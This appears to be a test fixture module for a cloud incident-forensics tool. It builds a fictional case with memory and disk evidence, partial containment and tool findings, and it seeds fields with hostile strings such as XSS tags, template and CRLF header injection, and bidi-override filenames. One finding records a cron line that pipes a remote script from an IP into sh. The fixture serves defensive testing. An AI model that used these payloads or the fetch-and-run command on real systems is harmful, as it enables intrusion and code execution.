"""Parts of the made-up case: hostile strings, evidence, containment, tool results."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from forensics.models.containment import ContainmentResult, ContainmentState, ContainmentStep
from forensics.models.evidence import (
    ControlPlaneEvidence,
    Digest,
    DiskEvidence,
    DiskOrigin,
    Evidence,
    MemoryEvidence,
    MemoryOrigin,
    Outcome,
    StoredFact,
)
from forensics.models.results import ToolResults

CASE_ID = "fc-20261124-0a1b2c3d4e"
INSTANCE = "i-0123456789abcdef0"
ACCOUNT, FORENSIC, REGION = "333344445555", "222233334444", "eu-central-1"
T0 = datetime(2026, 11, 24, 3, 12, 0, tzinfo=UTC)

HOSTILE = (
    "<script>hostile()</script>",
    "<img src=x onerror=hostile()>",
    '"><svg onload=hostile()>',
    "' onmouseover='hostile()",
    "</style><hostile>",
    "</title><hostile>",
    "{{ hostile }}{% hostile %}",
    "javascript:hostile()",
    "<!-- hostile --><![CDATA[hostile]]>",
    "\x1b[31mhostile\x1b[0m\x00\x07",
    "invoice\u202egpj.exe",
    "\u2066hostile\u2069\u200b\ufeff\u2028",
    "&lt;hostile&gt;&#60;",
    "hostile\r\nSet-Cookie: a=b",
    "z" + "\u0301" * 50,
    "A" * 9000,
)
ALL_HOSTILE = " | ".join(HOSTILE[:-1])


def at(seconds: float) -> datetime:
    """Seconds after the finding was received."""
    return T0 + timedelta(seconds=seconds)


SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
_LOCK = {"mode": "GOVERNANCE", "retain_until": "2027-11-24T03:30:00Z"}
_WHERE = {"account_id": FORENSIC, "region": REGION}
_PREFIX = f"s3://evidence/cases/{CASE_ID}/evidence"
_IMAGE = "the whole memory image as streamed"


def _facts() -> tuple[Evidence, ...]:
    """What AWS said about the instance."""
    return (
        ControlPlaneEvidence(
            evidence_id="control-plane-facts",
            outcome=Outcome.ACQUIRED,
            size_bytes=48213,
            uri=f"{_PREFIX}/control-plane/facts.json",
            version_id="v1",
            started_at=at(2),
            ended_at=at(4),
            lock=_LOCK,
            digests=(Digest(value=SHA, subject="facts.json", source="control-plane"),),
            **_WHERE,
        ),
    )


def _memory() -> tuple[Evidence, ...]:
    """A memory image, hashed on both sides."""
    return (
        MemoryEvidence(
            evidence_id="memory-image",
            outcome=Outcome.ACQUIRED,
            size_bytes=1073742848,
            uri=f"{_PREFIX}/memory/memory-image/memory.lime",
            version_id="v2",
            started_at=at(9.5),
            ended_at=at(130),
            lock=_LOCK,
            digests=(
                Digest(value=SHA, subject=_IMAGE, source="target"),
                Digest(value=SHA, subject=_IMAGE, source="control-plane"),
                Digest(algorithm="crc64nvme", value="kq3==", subject="the stored object", source="s3"),
            ),
            origin=MemoryOrigin(
                method="avml to standard output",
                tool_sha256=SHA,
                kernel_banner=HOSTILE[9],
                kernel_facts={"btf": StoredFact(key="btf", sha256=SHA, bytes=1)},
            ),
            **_WHERE,
        ),
    )


def _disks() -> tuple[Evidence, ...]:
    """One disk that is there in part, one that failed."""
    return (
        DiskEvidence(
            evidence_id="disk-vol-0a0a0a0a0a0a0a0a0",
            outcome=Outcome.PARTIAL,
            size_bytes=21474836480,
            reason="the copy is complete but its lock could not be read back",
            started_at=at(10),
            ended_at=at(420),
            digests=(
                Digest(value=SHA, subject="blocks", source="forensic-instance"),
                Digest(value="0" * 64, subject="blocks", source="control-plane"),
            ),
            origin=DiskOrigin(
                volume_id="vol-0a0a0a0a0a0a0a0a0", snapshot_id="snap-1", copy_id="snap-2", device="/dev/xvda"
            ),
            **_WHERE,
        ),
        DiskEvidence(
            evidence_id="disk-vol-0bad0bad0bad0bad0",
            outcome=Outcome.FAILED,
            reason="KMS key alias/app of account 333344445555 refuses the forensic account " + HOSTILE[1],
            started_at=at(10),
            ended_at=at(600),
            origin=DiskOrigin(volume_id="vol-0bad0bad0bad0bad0", snapshot_id="snap-3"),
        ),
    )


def evidence() -> tuple[Evidence, ...]:
    """Facts, memory, one disk that is there and one that failed."""
    return _facts() + _memory() + _disks()


def containment() -> ContainmentResult:
    """New flows blocked; one step not done."""
    return ContainmentResult(
        outcome=Outcome.PARTIAL,
        state=ContainmentState.NEW_FLOWS_BLOCKED,
        group_id="sg-quarantine",
        contained_at=at(141.5),
        reason="stop protection could not be set",
        steps=(
            ContainmentStep(
                name="swap security groups",
                target="eni-1",
                done=True,
                detail="sg-web, sg-ops → sg-quarantine",
            ),
            ContainmentStep(
                name="protect from stop",
                target=INSTANCE,
                done=False,
                detail="UnauthorizedOperation " + HOSTILE[2],
            ),
        ),
        residuals=(
            "connections that were open and tracked before the change may go on until they end or time out",
            "credentials that the instance profile has already issued are not revoked by this step",
        ),
    )


def f(number: int, title: str, severity: str, **more: Any) -> dict[str, Any]:
    """One tool finding."""
    return {"id": f"f-{number}", "title": title, "severity": severity, **more}


def _memory_findings() -> list[dict[str, Any]]:
    """Findings in memory, then one for every hostile string."""
    return [
        f(
            1,
            "A process named kworker/u8:3 runs from a deleted file in /dev/shm",
            "high",
            technique="T1036.005",
            confidence="high",
            detail="PID 1412, parent sshd. Kernel threads have no file; this one has one.\n"
            "It holds a socket to 198.51.100.23:443.",
            source="linux.pslist",
            time=at(-4000),
            data={"pid": 1412, "cmdline": HOSTILE[9], "nested": {"a": HOSTILE[2]}},
        ),
        f(
            2,
            "A kernel module is hidden from the module list",
            "critical",
            technique="T1014",
            confidence="high",
            source="linux.malware.check_modules",
        ),
        f(3, "Environment of bash has HISTFILE=/dev/null", "low", source="linux.bash"),
        *[
            f(10 + n, text[:400], "info", detail=text[:3500], source=text[:400], data={text[:80]: text})
            for n, text in enumerate(HOSTILE)
        ],
    ]


def _memory_results() -> dict[str, Any]:
    """Memory tools; one run failed."""
    return {
        "schema": "forensics.results/1",
        "case_id": CASE_ID,
        "evidence_id": "memory-image",
        "tool": "memory",
        "toolkit_version": "1.0.0",
        "started": at(700),
        "ended": at(790),
        "input": {"sha256": "9f86d0", "bytes": 1073742848},
        "provenance": [
            {
                "tool": "volatility3",
                "version": "2.28.2",
                "argv": ["linux.pslist.PsList"],
                "exit": 0,
                "seconds": 12.25,
                "rows": 94,
            },
            {
                "tool": "volatility3",
                "version": "2.28.2",
                "argv": ["linux.check_afinfo.Check_afinfo", HOSTILE[0]],
                "exit": 1,
                "seconds": 3.0,
                "error": "symbol tcp4_seq_afinfo is missing " + HOSTILE[9],
            },
        ],
        "findings": _memory_findings(),
        "gaps": [{"what": "network connections of other namespaces", "why": "the plugin failed " + HOSTILE[3]}],
    }


def _disk_results() -> dict[str, Any]:
    """Disk tools with a long timeline."""
    return {
        "schema": "forensics.results/1",
        "case_id": CASE_ID,
        "evidence_id": "disk-vol-0a0a0a0a0a0a0a0a0",
        "tool": "disk",
        "started": at(700),
        "ended": at(1200),
        "provenance": [{"tool": "dissect.target", "version": "3.22", "argv": ["query"], "exit": 0, "seconds": 80}],
        "findings": [
            f(
                50,
                "A cron job fetches and runs a script every minute",
                "critical",
                technique="T1053.003",
                source="/etc/cron.d/x " + HOSTILE[5],
                time=at(-3600),
                detail="* * * * * root curl -s http://198.51.100.23/a | sh",
            )
        ],
        "timeline": [
            {
                "time": at(-7200 + 60 * n),
                "what": f"file changed: /var/tmp/.cache/{n} {HOSTILE[n % 15]}",
                "source": "mtime",
            }
            for n in range(60)
        ]
        + [
            {
                "time": at(200),
                "what": "log line written while the disk was being copied",
                "source": "/var/log/syslog",
            }
        ],
    }


def results() -> tuple[ToolResults, ...]:
    """What the memory and disk tools found."""
    return tuple(ToolResults.model_validate(r) for r in (_memory_results(), _disk_results()))
